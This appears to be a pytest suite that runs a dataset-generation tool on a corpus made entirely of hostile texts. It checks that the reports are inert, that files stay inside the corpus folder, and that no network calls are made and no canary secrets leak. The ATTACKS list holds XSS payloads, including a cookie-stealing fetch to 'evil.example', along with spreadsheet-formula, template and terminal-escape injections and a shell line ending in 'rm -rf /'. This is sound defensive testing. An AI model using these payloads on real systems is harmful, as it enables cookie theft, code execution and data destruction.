"""A whole run of a corpus whose every text attacks: what it writes, where, and whom it calls."""

import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import NamedTuple

import pyarrow.parquet as pq
import pytest
import yaml

pytestmark = [pytest.mark.flow, pytest.mark.slow]

GUARD = """
import os, sys

def watch(event, arguments):
    address = None
    if event in ("socket.connect", "socket.bind", "socket.sendto", "socket.sendmsg"):
        address = arguments[1]
    elif event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr"):
        address = arguments[0]
    if isinstance(address, tuple):
        address = address[0]
    if isinstance(address, bytes):
        address = address.decode(errors="replace")
    with open(os.environ["NETWORK_LOG"], "a") as log:
        if event == "socket.__new__":
            log.write("socket\\n")
        elif address is not None and not str(address).startswith("/"):
            log.write(f"{event} {address}\\n")

sys.addaudithook(lambda event, arguments: watch(event, arguments)
                 if event.startswith("socket.") else None)
"""
LOOPBACK = ("127.0.0.1", "localhost", "::1", "", "None")
SECRETS = {
    "HF_TOKEN": "hf_cAnArYtOkEnOfHuggingFace0001",
    "OPENAI_API_KEY": "sk-cAnArYtOkEnOfOpenAI0002",
    "AWS_SECRET_ACCESS_KEY": "cAnArYtOkEnOfAmazon0003",
    "GITHUB_TOKEN": "ghp_cAnArYtOkEnOfGitHub0004",
    "MY_DATABASE_PASSWORD": "cAnArYtOkEnOfMine0005",
}
TRAVERSAL = "../../x"
MARKUP = "<script>alert('name')</script>"
QUOTES = "\" onmouseover='alert(1)' x=\"` | --- |"
ATTACKS = (
    "<script>fetch('//evil.example/'+document.cookie)</script> number {n} of the texts",
    '"><img src=x onerror=alert({n})> and then some more words',
    "' onfocus='alert({n})' autofocus=' with words behind it",
    "</script></style></textarea><svg/onload=alert({n})> closes what was open",
    "<!-- {n} --><iframe src=javascript:alert({n})></iframe> and a frame",
    "{{{{ ''.__class__ }}}} {{% include 'x' %}} is a template of number {n}",
    "=cmd|' /C calc'!A{n} would be a formula in a spreadsheet",
    "[a link](javascript:alert({n})) and ![a picture](http://evil.example/{n}.png)",
    "---\nconfigs: evil{n}\n---\n# a heading of number {n}",
    "\x1b]0;owned\x07\x1b[2J clears the screen of number {n}",
    "٣٤ \u202eereh desrever\u202c is number {n} of those texts",
    "$HOME `id` $(id) ; rm -rf / # is a shell line {n}",
)


class Run(NamedTuple):
    folder: Path
    release: Path
    stdout: str
    stderr: str


def write_corpus(folder: Path, *, sleep_seconds: float = 0.0) -> Path:
    labels = {TRAVERSAL: "climbs out", MARKUP: QUOTES, QUOTES: MARKUP}
    lines = [
        {"text": attack.format(n=n), "label": label, "sleep_seconds": sleep_seconds}
        for label in labels
        for attack in ATTACKS
        for n in range(4)
    ]
    (folder / "s.jsonl").write_text("\n".join(map(json.dumps, lines)), encoding="utf-8")
    examples = [
        {"text": ATTACKS[n].format(n=n), "label": label} for label in labels for n in (0, 1)
    ]
    (folder / "e.jsonl").write_text("\n".join(map(json.dumps, examples)), encoding="utf-8")
    recipe = {
        "name": "hostile",
        "rows": 60,
        "labels": labels,
        "attributes": {"tone": [MARKUP, QUOTES]},
        "prompt": {"template": "intent", "examples": {"path": "e.jsonl", "per_row": 2}},
        "model": {"backend": "scripted", "name": "s.jsonl"},
        "noise": {"share": 0.5, "steps": [{"kind": "keyboard", "rate": 0.1}]},
        "gates": "off",
        "shard_size": 16,
    }
    path = folder / "recipe.yaml"
    path.write_text(json.dumps(recipe), encoding="utf-8")
    return path


def command(recipe: Path) -> list[str]:
    code = "from flows.cli import main; main()"
    return [
        sys.executable,
        "-c",
        code,
        "generate",
        str(recipe),
        "--out",
        str(recipe.parent / "out"),
    ]


def child_environment(folder: Path, prefect_home: Path) -> dict[str, str]:
    (folder / "guard").mkdir()
    (folder / "guard" / "sitecustomize.py").write_text(GUARD, encoding="utf-8")
    (folder / "network.log").touch()
    kept = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_API")}
    return {
        **kept,
        **SECRETS,
        "PREFECT_HOME": str(prefect_home),
        "PYTHONPATH": str(folder / "guard"),
        "NETWORK_LOG": str(folder / "network.log"),
        "HF_HUB_OFFLINE": "1",
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, prefect_home: Path) -> Run:
    folder = tmp_path_factory.mktemp("outer") / "inner" / "corpus"
    folder.mkdir(parents=True)
    done = subprocess.run(
        command(write_corpus(folder)),
        capture_output=True,
        text=True,
        cwd=folder,
        env=child_environment(folder, prefect_home),
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return Run(folder, Path(done.stdout.strip()), done.stdout, done.stderr)


def files_below(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


def holding_secrets(folder: Path) -> list[Path]:
    secrets = [secret.encode() for secret in SECRETS.values()]
    return [p for p in files_below(folder) if any(s in p.read_bytes() for s in secrets)]


def test_nothing_is_written_outside_the_corpus_folder(hostile: Run) -> None:
    outer = hostile.folder.parent.parent
    assert [path.name for path in outer.iterdir()] == ["inner"]
    assert [path.name for path in hostile.folder.parent.iterdir()] == ["corpus"]
    given = {"recipe.yaml", "s.jsonl", "e.jsonl", "guard", "network.log", "out"}
    assert {path.name for path in hostile.folder.iterdir()} == given
    assert [path.name for path in (hostile.folder / "out").iterdir()] == ["hostile"]
    assert hostile.release.parent == hostile.folder / "out" / "hostile"
    assert not any(path.is_symlink() for path in hostile.release.rglob("*"))


def test_labels_are_data_in_the_rows_and_in_the_card(hostile: Run) -> None:
    rows = [row for path in hostile.release.glob("data/*.parquet") for row in rows_of(path)]
    assert {row["label"] for row in rows} == {TRAVERSAL, MARKUP, QUOTES}
    attacks = {row["clean_text"] or row["text"] for row in rows}
    assert any("<script>" in text for text in attacks)
    assert any("onerror" in text for text in attacks)
    _, matter, _ = (hostile.release / "README.md").read_text("utf-8").split("---\n", 2)
    features = yaml.safe_load(matter)["dataset_info"]["features"]
    (label,) = (feature for feature in features if feature["name"] == "label")
    names = label["dtype"]["class_label"]["names"]
    assert sorted(names.values()) == sorted([TRAVERSAL, MARKUP, QUOTES])
    resolved = yaml.safe_load((hostile.release / "recipe.yaml").read_text("utf-8"))
    assert set(resolved["labels"]) == {TRAVERSAL, MARKUP, QUOTES}


def rows_of(path: Path) -> list[dict[str, str | None]]:
    rows: list[dict[str, str | None]] = pq.read_table(
        path, columns=["label", "text", "clean_text"]
    ).to_pylist()
    return rows


class Page(HTMLParser):
    """Everything of a page that could act."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.scripts: list[str] = []
        self.active: list[tuple[str, str, str | None]] = []
        self.policy = ""
        self._in_script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self._in_script = tag == "script"
        if tag == "meta" and dict(attrs).get("http-equiv") == "Content-Security-Policy":
            self.policy = dict(attrs)["content"] or ""
        for name, value in attrs:
            address = (value or "").strip().lower()
            calls = name in ("src", "href", "action", "data", "srcdoc", "poster", "background")
            if name.startswith("on") or (calls and not address.startswith("#")):
                self.active.append((tag, name, value))

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


@pytest.mark.parametrize("name", ["report.html", "expectations/data_docs/index.html"])
def test_pages_are_inert(name: str, hostile: Run) -> None:
    page = Page((hostile.release / name).read_text("utf-8"))
    assert page.active == []
    assert page.tags.isdisjoint({"iframe", "img", "object", "embed", "link", "base", "form"})
    assert "default-src 'none'" in page.policy
    shipped = (Path(__file__).resolve().parents[2] / "tasks/report/report.js").read_text("utf-8")
    allowed = [] if "data_docs" in name else [shipped]
    assert ["".join(page.scripts)] * bool(page.scripts) == allowed


def test_the_report_shows_the_attacks_as_text(hostile: Run) -> None:
    text = (hostile.release / "report.html").read_text("utf-8")
    assert "&lt;script&gt;" in text
    assert "<script>alert" not in text
    assert "<img" not in text


def test_the_card_holds_no_markup_of_the_data(hostile: Run) -> None:
    _, _, body = (hostile.release / "README.md").read_text("utf-8").split("---\n", 2)
    prose = "".join(body.split("```")[::2])
    page = Page(prose)
    assert page.tags == set()
    assert "](javascript" not in prose
    labels = [line for line in prose.splitlines() if "climbs out" in line or "alert" in line]
    assert len(labels) == 3
    # As many cells as the table has columns: no label opened another.
    assert {line.replace("\\|", "").count("|") for line in labels} == {5}


def test_what_the_terminal_got_is_harmless(hostile: Run) -> None:
    for text in (hostile.stdout, hostile.stderr):
        assert text.replace("\n", "").isprintable()
    assert hostile.stdout == f"{hostile.release}\n"


def test_checksums_name_files_inside_the_release(hostile: Run) -> None:
    lines = (hostile.release / "checksums.txt").read_text("utf-8").splitlines()
    named = {name: digest for digest, name in (line.split("  ", 1) for line in lines)}
    found = {str(path.relative_to(hostile.release)) for path in files_below(hostile.release)}
    assert set(named) == found - {"checksums.txt"}
    for name, digest in named.items():
        assert hashlib.sha256((hostile.release / name).read_bytes()).hexdigest() == digest


def test_it_calls_nobody_and_listens_to_nobody(hostile: Run) -> None:
    log = (hostile.folder / "network.log").read_text("utf-8").splitlines()
    calls = [line.split(" ", 1) for line in log if line != "socket"]
    assert any(event == "socket.connect" for event, _ in calls), "the guard did not watch"
    assert [call for call in calls if call[1] not in LOOPBACK] == []


def test_no_secret_is_in_a_file_of_the_release(hostile: Run) -> None:
    assert holding_secrets(hostile.folder) == []


def test_no_secret_is_in_the_workspace_of_an_interrupted_run(
    tmp_path: Path, prefect_home: Path
) -> None:
    environment = child_environment(tmp_path, prefect_home)
    recipe = write_corpus(tmp_path, sleep_seconds=0.5)
    process = subprocess.Popen(
        command(recipe), cwd=tmp_path, env=environment, stderr=subprocess.PIPE, text=True
    )
    deadline = time.monotonic() + 120
    while not list(tmp_path.rglob("*.prompts.parquet")) and time.monotonic() < deadline:
        assert process.poll() is None
        time.sleep(0.2)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "the same command resumes this run" in stderr
    assert list(tmp_path.glob("out/hostile/.work-*/run.json"))
    assert holding_secrets(tmp_path) == []
    # Prefect's own records: parameters, logs, artifacts of both runs.
    assert holding_secrets(prefect_home) == []
